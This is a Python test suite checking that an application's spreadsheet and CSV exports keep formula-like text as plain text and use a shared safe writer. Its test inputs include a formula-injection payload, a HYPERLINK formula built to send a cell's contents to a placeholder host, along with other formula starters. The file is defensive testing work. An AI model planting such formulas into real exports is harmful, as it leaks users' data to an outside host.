"""Spreadsheets the application writes: text that looks like a formula stays text."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from makarem_desk.importer import ImportPlan, Problem
from makarem_desk.spreadsheet_cells import csv_text, sheet_bytes
from makarem_desk.sync.summary import build_summary

HYPERLINK = '=HYPERLINK("http://x/"&A1,"x")'
TRICKY = [HYPERLINK, "+966 5 1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1+1", "#N/A", "=1"]


def _summary_with_reason(reason: str) -> bytes:
    app = {"reference": "RYD1-2026-000001", "beneficiary_id": "b", "program_id": "p",
           "status": "rejected", "decision_reason": reason, "missing_items": []}
    ben = {"first_name": "=محمد", "family_name": "القحطاني", "identity_number": "1000000008"}
    return build_summary([app], {"b": ben}, {"p": {"name_ar": "@برنامج"}})


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "".join(zf.read(n).decode("utf-8") for n in zf.namelist()
                       if n.startswith("xl/worksheets/"))


def test_decision_reason_with_a_formula_is_text_in_the_batch_summary() -> None:
    data = _summary_with_reason(HYPERLINK)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    reason = ws.cell(row=2, column=10)
    assert reason.value == HYPERLINK and reason.data_type == "s"
    assert reason.quotePrefix  # Excel/LibreOffice keep it text when the cell is edited
    assert ws.cell(row=2, column=2).data_type == "s"  # a name typed as "=محمد"
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml  # it is there, as text


@pytest.mark.parametrize("text", TRICKY)
def test_every_formula_start_is_written_as_text(text: str) -> None:
    data = sheet_bytes("s", ["h"], [[text]])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cell = ws.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value.lstrip("\r\n") == text.lstrip("\r\n")  # XML folds a lone CR
    assert "<f" not in _sheet_xml(data)


def test_numbers_stay_numbers_and_odd_characters_do_not_break_the_sheet() -> None:
    data = sheet_bytes("s", ["n", "f", "b", "d", "t"],
                       [[1234, 2.5, True, date(2026, 1, 2), "reason\x01with a control char"]])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    n, f, b, d, t = (ws.cell(row=2, column=i) for i in range(1, 6))
    assert (n.value, n.data_type) == (1234, "n")
    assert (f.value, f.data_type) == (2.5, "n")
    assert (b.value, b.data_type) == (True, "b")
    assert d.value.date() == date(2026, 1, 2) and d.is_date
    assert t.value == "reason\ufffdwith a control char" and not t.quotePrefix


def test_import_problem_report_neutralises_formulas(tmp_path: Path) -> None:
    plan = ImportPlan(tmp_path / "in.csv", "csv")
    plan.problems.append(Problem(2, HYPERLINK, "bad", "-bad", "@سيئ", "=1+1"))
    out = tmp_path / "report.csv"
    plan.write_report(out)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["2", "'" + HYPERLINK, "'=1+1", "bad", "'-bad", "'@سيئ"]
    assert csv_text("محمد") == "محمد" and csv_text(5) == 5


def test_every_xlsx_writer_goes_through_the_shared_helper() -> None:
    """A new export writing its own workbook would bypass the guard: only
    spreadsheet_cells may create openpyxl workbooks or write-only cells."""
    root = Path(__file__).resolve().parents[1] / "makarem_desk"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheet_cells.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names: list[str] = []
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
                    and node.value.id == "openpyxl":
                names = [node.attr]
            if {"Workbook", "WriteOnlyCell", "Cell"} & set(names):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []


def test_workbooks_of_several_sheets_keep_text_as_text_and_carry_native_charts() -> None:
    from makarem_desk.spreadsheet_cells import Chart, Sheet, workbook_bytes

    rows = [["h", "n"], *([t, i] for i, t in enumerate(TRICKY)), [date(2026, 1, 2), 3.5]]
    chart = Chart("bar", "=title", 1, len(TRICKY) + 1, 1, 2, 2, "D2", right_to_left=True)
    data = workbook_bytes([Sheet("أ", rows, right_to_left=True, charts=[chart]),
                           Sheet("b", [["x"]], formats={1: "0.00"})])
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["أ", "b"]
    ws = wb["أ"]
    assert ws.sheet_view.rightToLeft and not wb["b"].sheet_view.rightToLeft
    for r, text in enumerate(TRICKY, start=2):
        cell = ws.cell(row=r, column=1)
        assert cell.data_type == "s" and cell.value.lstrip("\r\n") == text.lstrip("\r\n")
        assert ws.cell(row=r, column=2).data_type == "n"
    last = ws.cell(row=len(TRICKY) + 2, column=1)
    assert last.is_date and last.number_format == "yyyy-mm-dd"
    assert "<f" not in _sheet_xml(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert [n for n in zf.namelist() if n.startswith("xl/charts/")] == [
            "xl/charts/chart1.xml"]


def test_batch_summary_comes_in_pieces_of_a_file_not_whole(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A first export's sheet is tens of MB: it reaches the zip in pieces, read from a
    temporary file, with the cells ``build_summary`` writes."""
    from makarem_desk.sync import summary

    monkeypatch.setattr(summary, "PIECE", 4096)  # pieces of a small sheet

    apps = [{"reference": f"RYD1-2026-{i:06d}", "beneficiary_id": f"b{i}", "program_id": "p",
             "status": "submitted", "submitted_at": "2026-11-01T08:00:00",
             "response_due": "2026-11-15T08:00:00", "missing_items": [],
             "decision_reason": "=1+1" if i == 7 else None,
             "person": {"first_name": "محمد", "family_name": f"القحطاني {i}",
                        "identity_number": f"1{i:09d}", "phone": f"+96650{i:07d}"},
             "program_name_ar": "السلة الغذائية"} for i in range(300)]
    pieces = list(summary.summary_pieces(iter(apps)))
    assert len(pieces) > 1 and all(0 < len(p) <= 4096 for p in pieces)
    streamed = load_workbook(io.BytesIO(b"".join(pieces))).active
    whole = load_workbook(io.BytesIO(build_summary(
        apps, {a["beneficiary_id"]: a["person"] for a in apps},
        {"p": {"name_ar": "السلة الغذائية"}}))).active
    assert streamed is not None and whole is not None
    got = [[c.value for c in row] for row in streamed.iter_rows()]
    assert len(got) == 301 and got == [[c.value for c in row] for row in whole.iter_rows()]
    assert streamed.cell(row=9, column=10).quotePrefix  # "=1+1" stays text
    assert streamed.sheet_view.rightToLeft


def test_one_sheet_workbook_keeps_its_layout_and_cell_types_without_openpyxl() -> None:
    """``sheet_bytes`` writes the XML itself (xlsx_stream): the reader sees bold frozen
    headers, widths, right-to-left, and dates, times and numbers as what they are; the
    writing imports no openpyxl (its import was most of a small export's time)."""
    import subprocess
    import sys
    from datetime import UTC, datetime, time

    code = ("import sys; from makarem_desk.sync.summary import build_summary; "
            "build_summary([], {}, {}); print('openpyxl' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True, cwd=Path(__file__).resolve().parents[1])
    assert out.stdout.strip() == "False"

    data = sheet_bytes("أ & <b>", ["رقم", " h "],
                       [[datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), time(12, 30)],
                        [None, 7]], widths=(20, 36), right_to_left=True)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None and ws.title == "أ & <b>"
    assert ws.freeze_panes == "A2" and ws.sheet_view.rightToLeft
    assert ws.column_dimensions["B"].width == 36
    assert ws["A1"].font.b and ws["B1"].value == " h " and not ws["A2"].font.b
    assert ws["A2"].value == datetime(2026, 1, 2, 3, 4, 5) and ws["A2"].is_date
    assert ws["B2"].value == time(12, 30) and ws["B2"].is_date
    assert ws["A3"].value is None and (ws["B3"].value, ws["B3"].data_type) == (7, "n")
